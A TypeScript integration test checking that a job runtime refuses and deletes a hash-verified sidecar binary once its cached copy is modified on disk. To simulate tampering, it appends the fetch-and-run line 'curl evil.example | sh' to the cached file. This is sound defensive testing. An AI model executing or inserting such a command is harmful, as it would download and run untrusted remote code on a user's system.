// Session servers on the runtime binary from the verified sidecar cache: a job runs on the
// downloaded copy; once that copy is modified on disk, the next server start refuses it.
import { createHash } from 'node:crypto';
import { appendFileSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { resolveOpencodeBinary, sdkVersion } from '@open-cowork/runtime';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startJobsHarness, type JobsHarness } from '../support/harness.js';

const key = `${process.platform}-${process.arch}`;
let server: Server;
let h: JobsHarness;
let cached = '';
let dataDir = '';

beforeAll(async () => {
  const body = readFileSync((await resolveOpencodeBinary()).path);
  const manifest = JSON.stringify({ opencode: { version: sdkVersion(), platforms: { [key]: { file: 'opencode', sha256: createHash('sha256').update(body).digest('hex') } } } });
  // A mirror on loopback (plain http is accepted only there); the hash check is what trusts the file.
  server = createServer((req, res) => res.end(req.url === '/open-cowork-sidecars.json' ? manifest : req.url === '/opencode' ? body : undefined));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // The cache lives in the data dir, like the host's default: the sandbox covers the data dir but mounts the binary's folder.
  dataDir = await mkdtemp(path.join(tmpdir(), 'oc-jobs-sidecar-'));
  cached = path.join(dataDir, 'sidecars', 'opencode', sdkVersion(), key, 'opencode');
  h = await startJobsHarness({
    dataDir,
    rules: [{ name: 'hello', match: { lastUser: 'say hello' }, reply: { text: 'Hello from the downloaded runtime.' } }],
    options: { binarySource: { source: 'downloaded', sidecar: { dir: path.join(dataDir, 'sidecars'), baseUrl } } },
  });
}, 60_000);

afterAll(async () => {
  await h?.dispose();
  await new Promise((resolve) => server?.close(resolve));
  if (dataDir) await rm(dataDir, { recursive: true, force: true, maxRetries: 3 });
});

describe('session servers from the sidecar cache', { timeout: 240_000 }, () => {
  it('run the verified download; a copy modified on disk is refused and deleted at the next server start', async () => {
    const first = await h.manager.start({ prompt: 'Please say hello.', session_id: 'cached-1' });
    expect(await h.finished(first.jobId)).toMatchObject({ status: 'completed', tailOutput: 'Hello from the downloaded runtime.' });
    // The session's sandbox runs the cached file (it is the command bubblewrap was given).
    const commands = readdirSync('/proc').filter((pid) => /^\d+$/.test(pid)).map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      } catch {
        return '';
      }
    });
    expect(commands.some((command) => command.includes(cached) && command.includes('serve'))).toBe(true);

    await h.manager.cleanup({ idle_seconds: 0 });
    appendFileSync(cached, 'curl evil.example | sh\n');
    const second = await h.manager.start({ prompt: 'Please say hello.', session_id: 'cached-2' });
    const failed = await h.finished(second.jobId);
    expect(failed).toMatchObject({ status: 'failed', exitReason: 'server-start-failed' });
    expect(failed.error).toMatch(/was refused and deleted: its SHA-256 is/);
    expect(existsSync(cached)).toBe(false);
  });
});
